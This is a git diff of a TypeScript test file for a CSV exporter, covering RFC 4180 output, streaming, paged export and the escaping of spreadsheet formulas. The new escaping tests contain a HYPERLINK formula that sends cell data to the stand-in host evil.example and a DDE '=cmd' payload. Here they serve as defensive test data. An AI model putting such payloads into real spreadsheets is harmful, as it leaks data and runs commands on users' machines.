@@ -1,9 +1,8 @@
 import { Readable } from 'node:stream';
 import { text } from 'node:stream/consumers';
 import { AppError } from '@geodes/kit';
-import type { Column } from './columns.js';
-import { csvOf } from './csv.js';
-import { exportRows } from './export-rows.js';
+import { type Column, escapeFormula, toCsv, unescapeFormula } from './csv.js';
+import { exportRows } from './exports.js';
 
 interface Row {
   name: string;
@@ -20,61 +19,60 @@ const row = (change: Partial<Row> = {}): Row => ({ name: 'Evening', units: 1, no
 const cursor = { createdAt: '2026-01-01T00:00:00.000Z', id: '11111111-1111-4111-8111-111111111111' };
 
 describe('a table as CSV', () => {
-  it('is as RFC 4180 has it, in UTF-8 with a byte order mark, and no cell is a formula', async () => {
+  it('follows RFC 4180, is UTF-8 with a byte order mark, and has no formulas', async () => {
     const rows = [row({ name: 'A "rough", one', note: 'first\nsecond' }), row({ name: '=1+1', note: 'Géode ½' })];
-    expect(await text(csvOf(columns, rows))).toBe(
+    expect(await text(toCsv(columns, rows))).toBe(
       '"Name","Units","Note"\r\n"A ""rough"", one",1,"first\nsecond"\r\n"\'=1+1",1,"Géode ½"\r\n',
     );
-    const [first] = (await csvOf(columns, rows).toArray()) as Buffer[];
+    const [first] = (await toCsv(columns, rows).toArray()) as Buffer[];
     expect([...Buffer.from(first!).subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
   });
 
-  it('has a header where there are no rows', async () =>
-    expect(await text(csvOf(columns, []))).toBe('"Name","Units","Note"\r\n'));
+  it('has a header without rows', async () => expect(await text(toCsv(columns, []))).toBe('"Name","Units","Note"\r\n'));
 
-  it('does not end where its rows end with an error', async () => {
+  it('fails with the error of its rows', async () => {
     const rows = (async function* () {
       yield row();
       await Promise.resolve();
       throw new Error('gone');
     })();
-    await expect(text(csvOf(columns, rows))).rejects.toThrow('gone');
+    await expect(text(toCsv(columns, rows))).rejects.toThrow('gone');
   });
 
-  it('asks for no rows ahead of its reader, and for none after it has gone', async () => {
-    const asked = { rows: 0, isOver: false };
+  it('reads no rows far ahead of its reader, and none after it is destroyed', async () => {
+    const reads = { rows: 0, isOver: false };
     const rows = (async function* () {
       try {
         for (;;) {
-          asked.rows += 1;
+          reads.rows += 1;
           yield row({ note: 'x'.repeat(10_000) });
           await Promise.resolve();
         }
       } finally {
-        asked.isOver = true;
+        reads.isOver = true;
       }
     })();
-    const csv = csvOf(columns, rows);
+    const csv = toCsv(columns, rows);
     const reader = csv[Symbol.asyncIterator]();
     await reader.next();
     await new Promise((resolve) => setImmediate(resolve));
-    expect(asked.rows).toBeLessThan(100);
+    expect(reads.rows).toBeLessThan(100);
     csv.destroy();
     await new Promise((resolve) => setTimeout(resolve, 50));
-    expect(asked.isOver).toBe(true);
+    expect(reads.isOver).toBe(true);
   });
 });
 
 describe('the rows of an export', () => {
   const page = (rows: number[], next = false) => ({ rows, next: next ? cursor : null });
 
-  it('are asked for page after page until there is none', async () => {
+  it('are read page by page to the last page', async () => {
     const pages = [page([3, 4], true), page([5])];
     const rows = await Readable.from(exportRows(page([1, 2], true), async () => pages.shift()!)).toArray();
     expect(rows).toEqual([1, 2, 3, 4, 5]);
   });
 
-  it('survive a service that is away for a moment', async () => {
+  it('are read again if the service is away for a moment', async () => {
     let calls = 0;
     const read = async () => {
       calls += 1;
@@ -84,8 +82,34 @@ describe('the rows of an export', () => {
     expect(await Readable.from(exportRows(page([1], true), read)).toArray()).toEqual([1, 2]);
   });
 
-  it('end with the error of a page that cannot be had', async () => {
+  it('end with the error of a page', async () => {
     const read = () => Promise.reject(new AppError('INTERNAL', 'broken'));
     await expect(Readable.from(exportRows(page([1], true), read)).toArray()).rejects.toThrow('broken');
   });
 });
+
+describe('a cell that a spreadsheet would evaluate', () => {
+  it.each(['=1+1', '+1 319 555', '-2', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '＝1', '＋1', '－1', '＠x', '|x', '%x'])(
+    'is escaped: %j',
+    (text) => {
+      expect(escapeFormula(text)).toBe(`'${text}`);
+      expect(unescapeFormula(escapeFormula(text))).toBe(text);
+    },
+  );
+
+  it.each(["'=1", "''-", '=HYPERLINK("http://evil.example/?"&A1,"x")', `=cmd|' /C calc'!A0`])(
+    'is restored from its escaped form: %j',
+    (text) => {
+      expect(escapeFormula(text)).toMatch(/^'/);
+      expect(unescapeFormula(escapeFormula(text))).toBe(text);
+    },
+  );
+});
+
+it.each(['', 'Keokuk', '4 x 3 inches', "'tis", '3-4', 'a=b', ' =1'])(
+  'a cell without a formula is unchanged: %j',
+  (text) => {
+    expect(escapeFormula(text)).toBe(text);
+    expect(unescapeFormula(text)).toBe(text);
+  },
+);
